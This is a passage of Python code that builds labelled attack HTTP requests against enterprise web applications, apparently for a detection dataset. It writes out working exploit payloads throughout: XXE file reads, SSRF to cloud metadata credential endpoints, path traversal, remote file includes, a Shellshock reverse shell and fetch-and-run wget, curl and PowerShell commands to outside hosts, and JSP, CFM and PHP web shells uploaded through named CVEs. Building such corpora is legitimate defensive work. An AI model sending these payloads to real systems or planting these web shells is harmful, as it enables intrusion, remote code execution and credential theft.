        attacker(r, "crm.corp.local", ctype="text/xml; charset=utf-8", extra=[["SOAPAction", "http://schemas.microsoft.com/xrm/2011/Contracts/Services/IOrganizationService/Execute"]]),
        '<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///C:/Program Files/Microsoft Dynamics CRM/CRMWeb/web.config">]>'
        '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><Execute xmlns="http://schemas.microsoft.com/xrm/2011/Contracts/Services"><request><a:RequestName>&xxe;</a:RequestName></request></Execute></s:Body></s:Envelope>')
    add(cat, "sap", "POST", "/XISOAPAdapter/MessageServlet?channel=:PRD:SOAP_Sender_HR",
        attacker(r, "sappi.corp.local:50000", ctype="text/xml"),
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///usr/sap/PRD/SYS/global/security/data/SecStore.properties">]>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><ns0:EmployeeUpdate xmlns:ns0="urn:corp:hr"><Name>&xxe;</Name></ns0:EmployeeUpdate></soapenv:Body></soapenv:Envelope>')
    add(cat, "coldfusion", "POST", "/flex2gateway/http",
        attacker(r, "cf.corp.local", ctype="application/x-amf"),
        '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE test [ <!ENTITY x3 SYSTEM "../../../../lib/password.properties"> ]><amfx ver="3" xmlns="http://www.macromedia.com/2005/amfx"><body><object type="flex.messaging.messages.CommandMessage"><traits><string>body</string><string>clientId</string><string>correlationId</string><string>destination</string><string>headers</string><string>messageId</string><string>operation</string><string>timestamp</string><string>timeToLive</string></traits><object><traits/></object><null/><string/><string/><object><traits><string>DSId</string><string>DSMessagingVersion</string></traits><string>nil</string><int>1</int></object><string>&x3;</string><int>5</int><int>0</int><int>0</int></object></body></amfx>')
    add(cat, "websphere", "POST", "/services/PayrollPort",
        attacker(r, "was01.corp.local:9443", ctype="text/xml; charset=UTF-8", extra=[["SOAPAction", '"urn:getPayslip"']]),
        '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<soapenv:Body><pay:getPayslip xmlns:pay="http://payroll.corp.local/ws"><pay:employeeId><xi:include href="file:///etc/passwd" parse="text"/></pay:employeeId></pay:getPayslip></soapenv:Body></soapenv:Envelope>')
    # UTF-16 encoded DOCTYPE (raw bytes)
    x16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///c:/inetpub/wwwroot/web.config">]>'
           '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>&e;</orderNumber></GetOrderStatus></soap:Body></soap:Envelope>').encode("utf-16")
    add_raw(cat, "asmx", "POST", "/WebServices/OrderService.asmx",
            [["Host", "apps.northwind.local"], ["User-Agent", "Mozilla/5.0"], ["Content-Type", "text/xml; charset=utf-16"], ["SOAPAction", '"http://tempuri.org/GetOrderStatus"']], x16)
    # SVG upload to a SharePoint library
    bd = webkit_boundary(r)
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///c:/windows/system32/drivers/etc/hosts">]>'
           '<svg width="200" height="200" xmlns="http://www.w3.org/2000/svg"><text x="10" y="20">&xxe;</text></svg>')
    add_raw(cat, "upload", "POST", "/sites/hr/_layouts/15/Upload.aspx?List=%7B6A8B7F1E-2C3D-4E5F-8091-A2B3C4D5E6F7%7D",
            attacker(r, "sp2013.corp.local", ctype="multipart/form-data; boundary=" + bd),
            multipart([("ctl00$PlaceHolderMain$ctl03$ctl02$InputFile", svg, "logo.svg", "image/svg+xml")], bd))
    add(cat, "oracle", "POST", "/OA_HTML/configurator/UiServlet", attacker(r, "ebs.fabrikam.internal:8000", ctype="application/x-www-form-urlencoded"),
        "redirectFromJsp=1&getUiType=" + qp('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY % r SYSTEM "http://198.51.100.23/e.dtd"> %r;]><initialize><param name="init_was_saved">test</param></initialize>'))
    add(cat, "generic_soap", "POST", "/axis/services/CustomerService",
        attacker(r, "esb.corp.local:8443", ctype="text/xml", extra=[["SOAPAction", '""']]),
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><findCustomer><name>&lol4;</name></findCustomer></soapenv:Body></soapenv:Envelope>')


def gen_attack_ssrf():
    r = rng_for("attack_ssrf")
    cat = "ssrf"
    H = lambda host=None, **kw: attacker(r, host or r.choice(INTRA_HOSTS), **kw)
    add(cat, "exchange", "GET", "/autodiscover/autodiscover.json?@evil.example.net/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example.net",
        H("mail.corp.local"))
    add(cat, "exchange", "POST", "/ecp/y.js", H("mail.corp.local", ctype="text/xml",
                                                cookie="X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522; X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3"), "<x/>")
    add(cat, "oracle_ebs", "POST", "/OA_HTML/configurator/UiServlet", H("ebs.fabrikam.internal:8000", ctype="application/x-www-form-urlencoded"),
        "redirectFromJsp=1&getUiType=" + qp('<?xml version="1.0" encoding="UTF-8"?><initialize><param name="init_was_saved">test</param>'
                                             '<param name="return_url">http://127.0.0.1:7201/OA_HTML/help/../ieshostedsurvey.jsp</param><param name="ui_def_id">0</param>'
                                             '<param name="config_effective_usage_id">0</param><param name="ui_type">Applet</param></initialize>'))
    add(cat, "sharepoint", "POST", "/_api/SP.WebProxy.invoke", H("sp2013.corp.local", ctype="application/json;odata=verbose", extra=[["X-RequestDigest", sp_digest(r)]]),
        json.dumps({"requestInfo": {"__metadata": {"type": "SP.WebRequestInfo"}, "Url": "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
                                    "Method": "GET", "Headers": {"results": [{"__metadata": {"type": "SP.KeyValue"}, "Key": "Metadata", "Value": "true", "ValueType": "Edm.String"}]}}}))
    add(cat, "reports", "GET", "/ReportServer?%2fFinance%2fAP+Aging&rs:Command=Render&LogoUrl=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F", H())
    add(cat, "coldfusion", "GET", "/admin/feeds.cfm?action=import&feedUrl=gopher%3A%2F%2F127.0.0.1%3A6379%2F_%252A1%250D%250A%25248%250D%250Aflushall%250D%250A", H())
    add(cat, "java", "POST", "/portal/proxy.jsp", H(ctype="application/x-www-form-urlencoded"), "url=" + qp("file:///etc/passwd"))
    add(cat, "java", "GET", "/hrportal/image?src=http://0xA9FEA9FE/latest/meta-data/", H())
    add(cat, "java", "GET", "/proxy/fetch.do?target=http://[::ffff:a9fe:a9fe]/computeMetadata/v1/instance/service-accounts/default/token", H(extra=[["Metadata-Flavor", "Google"]]))
    add(cat, "aspnet", "POST", "/Tools/ImportFeed.aspx", H(ctype="application/x-www-form-urlencoded"),
        form([("__VIEWSTATE", viewstate(r, 1024)), ("ctl00$MainContent$txtFeedUrl", "http://2852039166:80/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
              ("ctl00$MainContent$btnImport", "Import")]))
    add(cat, "aspnet", "GET", "/Handlers/Thumbnail.ashx?url=dict://127.0.0.1:11211/stats&w=120", H())
    add(cat, "websphere_portal", "GET", "/docpicker/internal_proxy/http/169.254.169.254/latest/meta-data/iam/security-credentials/", H("portal.example-corp.com"))
    add(cat, "websphere_portal", "GET", "/wps/PA_WCM_Authoring_UI/proxy/http/127.0.0.1:9060/ibm/console/", H("portal.example-corp.com"))
    add(cat, "unc", "GET", "/kb/download.asp?doc=%5C%5C198.51.100.23%5Cshare%5Cdoc.pdf&v=1", H())


# ---------------------------------------------------------------------------
# ATTACKS: lfi, rfi
# ---------------------------------------------------------------------------

def gen_attack_lfi():
    r = rng_for("attack_lfi")
    cat = "lfi"
    H = lambda host=None, **kw: attacker(r, host or r.choice(INTRA_HOSTS), **kw)
    add(cat, "citrix", "GET", "/vpn/../vpns/cfg/smb.conf", H("remote.example-corp.com"))
    add(cat, "citrix", "GET", "/vpn/%2e%2e/vpns/cfg/smb.conf", H("citrix.fabrikam.com"))
    add(cat, "citrix", "GET", "/vpn/..%2fvpns/portal/scripts/newbm.pl", H("apps.corp.local"))
    add(cat, "coldfusion", "GET", "/CFIDE/administrator/enter.cfm?locale=../../../../../../../lib/password.properties%00en", H("cf.corp.local"))
    add(cat, "coldfusion", "GET", "/CFIDE/wizards/common/_logintowizard.cfm?locale=..%5C..%5C..%5C..%5C..%5C..%5C..%5C..%5CColdFusion8%5Clib%5Cpassword.properties%00en", H("cf.corp.local"))
    add(cat, "coldfusion", "POST", "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=foo&_cfclient=true",
        H("cf.corp.local", ctype="application/x-www-form-urlencoded"),
        "_variables=" + qp('{"_metadata":{"classname":"\\\\..\\\\lib\\\\password.properties"},"_variables":[]}'))
    add(cat, "coldfusion", "GET", "/CFIDE/adminapi/customtags/l10n.cfm?attributes.id=it&attributes.file=../../administrator/mail/download.cfm&filename=../../../../../../../../../../../../../../../etc/passwd&attributes.locale=it&attributes.var=it&attributes.jscript=false&attributes.type=text/html&attributes.charset=UTF-8&thisTag.executionmode=end&thisTag.generatedContent=htp", H("cf.corp.local"))
    add(cat, "iis", "GET", "/Download.aspx?file=..%255c..%255c..%255cweb.config", H())
    add(cat, "iis", "GET", "/images/..%c0%af..%c0%af..%c0%afwindows/win.ini", H())
    add(cat, "iis", "GET", "/default.asp::$DATA", H())
    add(cat, "iis", "GET", "/Login.aspx%3A%3A%24DATA", H())
    add(cat, "iis", "GET", "/global.asa", H())
    add(cat, "iis", "GET", "/Handlers/File.ashx?path=~/web.config", H())
    add(cat, "iis", "GET", "/App_Data/ASPNETDB.MDF", H())
    add(cat, "iis", "GET", "/Reports/ViewFile.aspx?path=C%3A%5Cinetpub%5Cwwwroot%5Cweb.config", H())
    add(cat, "iis", "GET", "/kb/download.asp?doc=....//....//....//....//boot.ini&v=1", H())
    add(cat, "java", "GET", "/download.jsp?file=../../WEB-INF/web.xml", H())
    add(cat, "java", "GET", "/hrportal/..;/WEB-INF/web.xml", H())
    add(cat, "java", "GET", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/WEB-INF/web.xml", H())
    add(cat, "java", "GET", "/hrportal/javax.faces.resource.../WEB-INF/web.xml.jsf", H())
    add(cat, "java", "GET", "/spring-mvc-showcase/resources/%255c%255c..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/..%255c/windows/win.ini", H())
    add(cat, "oracle", "GET", "/OA_HTML/help/../ieshostedsurvey.jsp", H("ebs.fabrikam.internal:8000"))
    add(cat, "oracle", "GET", "/reports/rwservlet?report=test.rdf+desformat=html+destype=cache+JOBTYPE=rwurl+URLPARAMETER=%22file:///etc/passwd%22", H("ebs.fabrikam.internal:8000"))
    add(cat, "sap", "POST", "/CTCWebService/CTCWebServiceBean", H("sapportal.corp.local:50000", ctype="text/xml;charset=UTF-8"),
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:urn="urn:CTCWebServiceSi"><soapenv:Header/><soapenv:Body>'
        '<urn:executeSynchronious><identifier><component>sap.com/tc~lm~config~content</component>'
        '<path>content/../../../../../../../../usr/sap/PRD/J00/j2ee/cluster/bootstrap/bootstrap.properties</path></identifier></urn:executeSynchronious></soapenv:Body></soapenv:Envelope>')
    add(cat, "domino", "GET", "/domcfg.nsf/..%2f..%2f..%2f..%2fnotes.ini", H("notes.corp.local"))
    add(cat, "perl_cgi", "GET", "/cgi-bin/awstats.pl?config=../../../../../../etc/passwd%00", H())
    add(cat, "perl_cgi", "GET", "/cgi-bin/view.pl?file=../../../../etc/shadow", H())
    add(cat, "reports", "GET", "/CrystalImageHandler.aspx?dynamicimage=..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini", H())
    add(cat, "sharepoint", "GET", "/_layouts/15/download.aspx?SourceUrl=..%2f..%2f..%2fweb.config", H("sp2013.corp.local"))


def gen_attack_rfi():
    r = rng_for("attack_rfi")
    cat = "rfi"
    H = lambda **kw: attacker(r, r.choice(INTRA_HOSTS), **kw)
    add(cat, "include", "GET", "/default.asp?page=http://45.77.12.9/shell.txt", H())
    add(cat, "include", "GET", "/portal/page.jsp?p=http://203.0.113.47/x.jsp", H())
    add(cat, "include", "GET", "/cgi-bin/view.pl?template=ftp://198.51.100.23/pub/t.pl", H())
    add(cat, "include", "GET", "/index.cfm?fuseaction=home&template=http%3A%2F%2Fx7k2p.oastify.com%2Finc.cfm", H())
    add(cat, "include", "GET", "/intranet/index.php?page=http://185.220.101.34/r57.txt?", H())
    add(cat, "include", "GET", "/Default.aspx?skin=%5C%5C203.0.113.47%5Cshare%5Cskin.ascx", H())
    add(cat, "include", "GET", "/include.asp?file=https://pastebin.com/raw/8dK3xQ2a", H())
    add(cat, "include", "GET", "/tiles/layout.do?layout=http://cdn-update.example.net/layout.jsp%3F", H())
    add(cat, "include", "POST", "/admin/news/edit.cfm?id=1", H(ctype="application/x-www-form-urlencoded"),
        "title=x&body=y&headerFile=" + qp("https://a9f3.interact.sh/header.cfm"))


# ---------------------------------------------------------------------------
# ATTACKS: rce, php
# ---------------------------------------------------------------------------

def gen_attack_rce():
    r = rng_for("attack_rce")
    cat = "rce"
    H = lambda host=None, **kw: attacker(r, host or r.choice(INTRA_HOSTS), **kw)
    # Perl CGI open() pipes and classic CGI holes
    add(cat, "perl_cgi", "GET", "/cgi-bin/view.pl?file=|id|", H())
    add(cat, "perl_cgi", "GET", "/cgi-bin/report.pl?action=view&file=%3Bcat%20%2Fetc%2Fpasswd%7C", H())
    add(cat, "perl_cgi", "GET", "/cgi-bin/awstats.pl?configdir=%7Cecho%3Becho%3Bid%3Becho%7C", H())
    add(cat, "perl_cgi", "GET", "/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd", H())
    add(cat, "perl_cgi", "GET", "/cgi-bin/webdist.cgi?distloc=;cat%20/etc/passwd", H())
    add(cat, "perl_cgi", "GET", "/cgi-bin/report.pl?action=view&fmt=%60wget%20http%3A%2F%2F203.0.113.47%2Fs%20-O%20%2Ftmp%2Fs%3Bsh%20%2Ftmp%2Fs%60", H())
    add(cat, "perl_cgi", "POST", "/cgi-bin/tickets.pl", H(ctype="application/x-www-form-urlencoded"),
        "action=export&file=" + qp("/bin/ls -la /var/www|") + "&id=1")
    # Shellshock through CGI headers
    ss = [("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "/cgi-bin/status"),
          ("Referer", "() { :;}; echo; /usr/bin/id", "/cgi-bin/test.cgi"),
          ("Cookie", "() { _; } >_[$($())] { echo; /bin/bash -i >& /dev/tcp/185.220.101.34/4444 0>&1; }", "/cgi-bin/admin.cgi"),
          ("X-Forwarded-For", "() { :; }; /usr/bin/wget -qO /tmp/k http://198.51.100.23/k && /bin/sh /tmp/k", "/cgi-bin/bugzilla/index.cgi"),
          ("Accept-Language", "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /bin/uname -a", "/cgi-bin/mailman/listinfo")]
    for hname, val, path in ss:
        if hname == "User-Agent":
            hs = attacker(r, r.choice(INTRA_HOSTS), ua=val)
        elif hname == "Cookie":
            hs = attacker(r, r.choice(INTRA_HOSTS), cookie=val)
        else:
            hs = attacker(r, r.choice(INTRA_HOSTS), extra=[[hname, val]])
        add(cat, "shellshock", "GET", path, hs)
    # IIS unicode / double-decode traversal to cmd.exe
    add(cat, "iis", "GET", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\", H())
    add(cat, "iis", "GET", "/msadc/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir+c:\\", H())
    # intranet admin tools wrapping ping/nslookup
    for val in ["127.0.0.1 & ipconfig /all",
                "10.0.0.1|powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.47/a.ps1')\"",
                "8.8.8.8 && c^m^d /c who^ami",
                "localhost; %COMSPEC% /c type C:\\Windows\\win.ini"]:
        body = form([("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", viewstate(r, 1024)), ("__VIEWSTATEGENERATOR", vsgen(r)),
                     ("ctl00$MainContent$txtHost", val), ("ctl00$MainContent$btnPing", "Ping")])
        add(cat, "webforms_tool", "POST", "/Admin/NetTools.aspx", H(ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r)), body)
    # Citrix CVE-2019-19781 step two: fetch the planted template
    add(cat, "citrix", "GET", "/vpn/../vpns/portal/PWNED.xml", H("remote.example-corp.com", extra=[["NSC_USER", "nsroot"], ["NSC_NONCE", "nsroot"]]))
    # ColdFusion CVE-2018-15961: unauthenticated ckeditor upload of a JSP
    bd = webkit_boundary(r)
    jsp = '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = br.readLine()) != null) { out.println(l); } %>'
    add_raw(cat, "coldfusion_upload", "POST", "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm?action=upload",
            H("cf.corp.local", ctype="multipart/form-data; boundary=" + bd),
            multipart([("file", jsp, "cmd.jsp", "text/plain"), ("path", "path", None, None)], bd))
    bd = webkit_boundary(r)
    cfm = '<cfexecute name="cmd.exe" arguments="/c #url.c#" timeout="10" variable="o"></cfexecute><cfoutput><pre>#o#</pre></cfoutput>'
    add_raw(cat, "coldfusion_upload", "POST", "/CFIDE/scripts/ajax/FCKeditor/editor/filemanager/connectors/cfm/upload.cfm?Command=FileUpload&Type=File&CurrentFolder=/x.cfm%00",
            H("cf.corp.local", ctype="multipart/form-data; boundary=" + bd),
            multipart([("NewFile", cfm, "x.txt", "application/octet-stream")], bd))
    # SAP Visual Composer metadatauploader (CVE-2025-31324): zip with a JSP
    zbuf = io_zip([("helper.jsp", '<%@ page import="java.util.*,java.io.*"%><% if (request.getParameter("cmd") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); OutputStream os = p.getOutputStream(); InputStream in = p.getInputStream(); DataInputStream dis = new DataInputStream(in); String disr = dis.readLine(); while ( disr != null ) { out.println(disr); disr = dis.readLine(); } } %>')])
    bd = webkit_boundary(r)
    add_raw(cat, "sap_upload", "POST", "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1",
            H("sapportal.corp.local:50000", ctype="multipart/form-data; boundary=" + bd),
            multipart([("file", zbuf, "x.zip", "application/octet-stream")], bd))
    # Oracle EBS CVE-2022-21587: uuencoded zip with a traversal entry
    zbuf = io_zip([("../../../../../../FMW_Home/Oracle_EBS-app1/applications/oacore/html/bin/config.pl",
                    "use CGI;print CGI::header( -type => 'text/plain' );my $cmd = $ENV{'HTTP_CMD'};print system($cmd);exit 0;")])
    uu = "begin 664 test.zip\n" + "".join(binascii.b2a_uu(zbuf[i:i + 45]).decode() for i in range(0, len(zbuf), 45)) + "`\nend\n"
    bd = webkit_boundary(r)
    add(cat, "oracle_upload", "POST", "/OA_HTML/BneViewerXMLService?bne:uueupload=TRUE",
        H("ebs.fabrikam.internal:8000", ctype="multipart/form-data; boundary=" + bd),
        multipart([("bne:uueupload", uu, "test.uue", "text/plain")], bd).decode("latin-1"))
    # Oracle BI Publisher template with Xalan Java extension
    xsl = ('<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
           'xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime" xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object">'
           '<xsl:template match="/"><xsl:variable name="rtobject" select="rt:getRuntime()"/>'
           '<xsl:variable name="process" select="rt:exec($rtobject,\'bash -c {curl,http://198.51.100.23/x}|bash\')"/>'
           '<xsl:value-of select="ob:toString($process)"/></xsl:template></xsl:stylesheet>')
    add(cat, "xslt", "POST", "/xmlpserver/services/v2/ReportService", H("bip.corp.local:9502", ctype="text/xml; charset=UTF-8", extra=[["SOAPAction", '""']]),
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:v2="http://xmlns.oracle.com/oxp/service/v2"><soapenv:Body>'
        '<v2:uploadTemplateForReport><v2:reportAbsolutePath>/Shared/HR/Payslip.xdo</v2:reportAbsolutePath><v2:templateName>t1</v2:templateName>'
        '<v2:templateType>xsl</v2:templateType><v2:locale>en_US</v2:locale><v2:templateData>' + b64(xsl.encode()) + '</v2:templateData>'
        '</v2:uploadTemplateForReport></soapenv:Body></soapenv:Envelope>')
    # IIS 6 WebDAV ScStoragePathFromUrl (CVE-2017-7269)
    ifh = "<http://localhost/aaaaaaa" + "\u6f5d\u7863\u7761\u7133\u6865\u6f68\u6368\u7025\u7233\u6561\u6870\u6e67\u6873" + "> (Not <locktoken:write1>) <http://localhost/bbbbbbb" + "\u7957\u7173\u6861\u6c6f\u6570\u4a37\u7461\u8c3a\u6c79\u5c59" + ">"
    raw = ("PROPFIND / HTTP/1.1\r\nHost: legacy-iis.corp.local\r\nContent-Length: 0\r\nIf: %s\r\n\r\n" % ifh).encode("utf-8")
    add_rawbytes(cat, "iis_webdav", raw)
    # JBoss / Tomcat deployment abuse
    add(cat, "appserver", "GET", "/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer&methodIndex=19&arg0=http://203.0.113.47/cmd.war", H("jboss.corp.local:8080"))
    add(cat, "appserver", "PUT", "/shell.jsp/", H("tomcat.corp.local:8080", ctype="application/octet-stream"),
        '<% java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("c")).getInputStream(); int a; while((a=in.read())!=-1){ out.print((char)a); } %>')
    war = io_zip([("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\n"), ("index.jsp", '<%@ page import="java.io.*"%><% Runtime.getRuntime().exec(request.getParameter("x")); %>')])
    add_raw(cat, "appserver", "PUT", "/manager/text/deploy?path=/monitoring&update=true",
            [["Host", "tomcat.corp.local:8080"], ["User-Agent", "curl/7.68.0"], ["Authorization", "Basic " + b64(b"tomcat:s3cret")], ["Content-Type", "application/octet-stream"]], war)


def io_zip(files):
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2019, 3, 1, 12, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    return buf.getvalue()


def gen_attack_php():
    r = rng_for("attack_php")
    cat = "php"
    H = lambda **kw: attacker(r, r.choice(["intranet.corp.local", "www.example.org", "wiki.corp.local"]), **kw)
    add(cat, "php_cgi", "POST", "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", H(ctype="application/x-www-form-urlencoded"),
        "<?php system('whoami'); die(); ?>")
    add(cat, "php_cgi", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input", H(ctype="application/x-www-form-urlencoded"),
        "<?php echo shell_exec('cmd /c dir C:\\\\inetpub'); ?>")
    add(cat, "wrapper", "GET", "/intranet/index.php?page=php://filter/convert.base64-encode/resource=config.inc", H())
    add(cat, "wrapper", "GET", "/intranet/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==&c=id", H())
    add(cat, "wrapper", "GET", "/intranet/download.php?file=phar://uploads/avatars/1234.jpg/test.txt", H())
    add(cat, "wrapper", "GET", "/intranet/index.php?page=expect://id", H())
    bd = webkit_boundary(r)
    add_raw(cat, "upload", "POST", "/intranet/profile/avatar.php", H(ctype="multipart/form-data; boundary=" + bd),
            multipart([("avatar", b"GIF89a<?php eval($_POST['x']); ?>", "me.php.jpg", "image/jpeg"), ("save", "Save", None, None)], bd))
    add(cat, "mailer", "POST", "/contact/send.php", H(ctype="application/x-www-form-urlencoded"),
        "name=x&email=" + qp('"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php  some"@example.com') + "&message=" + qp("<?php system($_GET['c']); ?>"))
    add(cat, "unserialize", "GET", "/intranet/dashboard.php",
        H(cookie="prefs=" + quote('O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:23:"/var/www/html/shell.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies";b:1;s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:30:"<?php system($_GET[\'c\']); ?>";}}}s:39:"\x00GuzzleHttp\\Cookie\\CookieJar\x00strictMode";N;}', safe="")))


# ---------------------------------------------------------------------------
# ATTACKS: protocol, scanner, SAP RECON (generic)
# ---------------------------------------------------------------------------

def gen_attack_protocol():
    r = rng_for("attack_protocol")
    cat = "protocol"
    smug = "GET /admin/users.aspx HTTP/1.1\r\nHost: intranet.corp.local\r\nX-Ignore: x"
    b1 = ("0\r\n\r\n" + smug).encode()
    add_rawbytes(cat, "smuggling", ("POST /Default.aspx HTTP/1.1\r\nHost: intranet.corp.local\r\nUser-Agent: Mozilla/5.0\r\n"
                                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(b1)).encode() + b1)
    inner = "GET /Admin/NetTools.aspx HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10\r\n\r\nx="
    b2 = ("%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)).encode()
    add_rawbytes(cat, "smuggling", ("POST /Citrix/StoreWeb/Home/Configuration HTTP/1.1\r\nHost: apps.corp.local\r\nUser-Agent: Mozilla/5.0\r\n"
                                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n").encode() + b2)
    b3 = b"0\r\n\r\nGET /ecp/default.aspx HTTP/1.1\r\nX: y"
    add_rawbytes(cat, "smuggling", ("POST /owa/auth.owa HTTP/1.1\r\nHost: mail.corp.local\r\nUser-Agent: Mozilla/5.0\r\n"
                                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\nTransfer-Encoding : chunked\r\n\r\n" % len(b3)).encode() + b3)
    add_rawbytes(cat, "smuggling", ("POST /sites/hr/_vti_bin/Lists.asmx HTTP/1.1\r\nHost: sp2013.corp.local\r\nUser-Agent: Mozilla/5.0\r\n"
                                    "Content-Type: text/xml\r\nTransfer-Encoding: xchunked\r\nTransfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n" % len(b3)).encode() + b3)
    b5 = b"x=1&y=GET /irj/portal HTTP/1.1\r\n"
    add_rawbytes(cat, "smuggling", ("POST /irj/portal HTTP/1.1\r\nHost: sapportal.corp.local\r\nUser-Agent: Mozilla/5.0\r\n"
                                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 5\r\nContent-Length: %d\r\n\r\n" % len(b5)).encode() + b5)
    # SAP ICMAD (CVE-2022-22536): oversized Content-Length on a static ICM resource, padding, then a second request
    pad = b"A" * 82642
    icmad = (b"GET /sap/admin/public/default.html?aaa HTTP/1.1\r\nHost: sapportal.corp.local:50000\r\nUser-Agent: python-requests/2.27.1\r\n"
             b"Content-Length: 82646\r\nConnection: keep-alive\r\n\r\n" + pad +
             b"\r\n\r\nGET /sap/public/bc/ur/Login/assets/corbu/sap_logo.png HTTP/1.1\r\nHost: sapportal.corp.local:50000\r\n\r\n")
    add_rawbytes(cat, "smuggling", icmad)
    # HTTP.sys MS15-034 range overflow
    add(cat, "iis", "GET", "/iisstart.htm", attacker(r, "legacy-iis.corp.local", extra=[["Range", "bytes=0-18446744073709551615"]]))
    # TRACK / DEBUG verbs, Translate: f source disclosure, rewrite-header path override
    add(cat, "iis", "TRACK", "/", attacker(r, "legacy-iis.corp.local", extra=[["X-Probe", "<script>alert(document.cookie)</script>"]]))
    add(cat, "iis", "DEBUG", "/Default.aspx", attacker(r, "intranet.corp.local", extra=[["Command", "stop-debug"], ["Content-Length", "0"]]))
    add(cat, "iis", "GET", "/Login.aspx\\", attacker(r, "legacy-iis.corp.local", extra=[["Translate", "f"]]))
    add(cat, "iis", "GET", "/Default.aspx", attacker(r, "intranet.corp.local", extra=[["X-Original-URL", "/Admin/Users.aspx"], ["X-Rewrite-URL", "/Admin/Users.aspx"]]))
    # absolute-form request line to an internal admin port
    add_rawbytes(cat, "absolute_uri", b"GET http://127.0.0.1:8080/manager/html HTTP/1.1\r\nHost: intranet.corp.local\r\nUser-Agent: Mozilla/5.0\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n")


def gen_attack_scanner():
    r = rng_for("attack_scanner")
    cat = "scanner"
